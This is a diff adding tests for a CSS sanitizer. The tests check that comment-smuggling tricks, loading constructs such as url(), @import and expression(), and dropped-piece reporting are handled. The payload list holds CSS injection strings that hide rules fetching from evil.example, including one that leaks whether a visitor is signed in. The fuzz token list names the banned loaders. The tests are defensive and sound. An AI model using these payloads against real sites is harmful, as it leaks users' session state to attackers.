@@ -1,5 +1,6 @@
 import { describe, expect, it } from "bun:test";
-import { cleanCss } from "./css";
+import fc from "fast-check";
+import { cleanCss, sanitizeCss } from "./css";
 
 const flat = (css: string) => cleanCss(css).replace(/\s+/g, " ").trim();
 
@@ -121,4 +122,80 @@ describe("what is broken", () => {
     expect(cleanCss("(".repeat(65_536))).toBe("");
     expect(cleanCss(`h1{${"color:red;".repeat(6000)}`)).toInclude("color:red;");
   });
+});
+
+describe("a comment that only appears once something else is removed", () => {
+  const payloads = [
+    `a { --a: /<*; --b: "*/; } body { background: url(https://evil.example/anybody.png) }
+a[href*='dashboard'] { background: url(https://evil.example/visitor-is-signed-in.png) !important } /*"; }`,
+    'a { --a: /<<*; --b: "*/; } body { background: url(https://evil.example/x.png) } /*"; }',
+    'a { --a: /\0*; --b: "*/; } body { background: url(https://evil.example/x.png) } /*"; }',
+    'a { --a: "/*"; --b: "*/; } body { background: url(https://evil.example/x.png) } /*"; }',
+    "a { --a: *</; b: c } </* { background: url(https://evil.example/x.png) }",
+    'a { --a: ／＊; --b: "＊／; } body { background: url(https://evil.example/x.png) } /*"; }',
+  ];
+  it.each(payloads)("hides no rule: %s", (css) => {
+    const cleaned = cleanCss(css);
+    expect(cleaned).not.toMatch(/\/\*|\*\//);
+    expect(withoutStrings(cleaned)).not.toMatch(/url|evil/i);
+  });
+
+  it("does not come out of a text", () => {
+    expect(flat('.a::before { content: "/* x */" }')).toBe('.a::before { content: "/\\2a x *\\2f "; }');
+  });
+});
+
+/** What is left of a stylesheet without comments when its strings are taken out, as CSS reads strings. */
+const withoutStrings = (css: string) => css.replace(/"(\\[\s\S]|[^"\\\n])*"|'(\\[\s\S]|[^'\\\n])*'/g, "");
+
+it("no random stylesheet comes out with anything that loads, a comment, or an open string", () => {
+  const parts = [
+    ..."{};:'\"()[]<>/*\\@\n,a- \0\f&!#.",
+    "/*",
+    "*/",
+    "/<*",
+    "*</",
+    "<!--",
+    "</style>",
+    "url(x)",
+    "url(",
+    "@import",
+    "@media x",
+    "@font-face",
+    "image-set(",
+    "--b:",
+    "a:b",
+    "\\75rl(x)",
+    "ｕｒｌ(x)",
+    "expression(",
+    "data:",
+    "\ud83d",
+  ];
+  const sheet = fc.array(fc.constantFrom(...parts), { maxLength: 40 }).map((some) => some.join(""));
+  const runs = Number(process.env.FUZZ_REQUESTS ?? 5000);
+  fc.assert(
+    fc.property(sheet, (css) => {
+      const { css: cleaned } = sanitizeCss(css);
+      expect(cleaned).not.toMatch(/\/\*|\*\/|<[/!a-z]/i);
+      const bare = withoutStrings(cleaned);
+      expect(bare).not.toMatch(/["'\\]/);
+      expect(bare.normalize("NFKC")).not.toMatch(/url\s*\(|@import|@font-face|image-set\s*\(|expression\s*\(|data:/i);
+      expect(bare.split("{").length).toBe(bare.split("}").length);
+      expect(cleanCss(cleaned)).toBe(cleaned);
+    }),
+    { numRuns: runs, seed: Number(process.env.FUZZ_SEED ?? 20_260_115) },
+  );
+});
+
+it("what is left out is reported, at most 20 pieces of it and the beginning of each", () => {
+  const css = `@import "x"; h1 { color: red; background: url(https://a.example/${"x".repeat(200)}) } @font-face { src: url(y) }`;
+  const { dropped } = sanitizeCss(css);
+  expect(dropped.map((piece) => piece.slice(0, 32))).toEqual([
+    '@import "x"',
+    "background: url(https://a.exampl",
+    "@font-face { … }",
+  ]);
+  expect(Math.max(...dropped.map((piece) => piece.length))).toBe(120);
+  expect(sanitizeCss("a { background: url(x) }".repeat(50)).dropped).toHaveLength(20);
+  expect(sanitizeCss("h1 { color: red }").dropped).toEqual([]);
 });
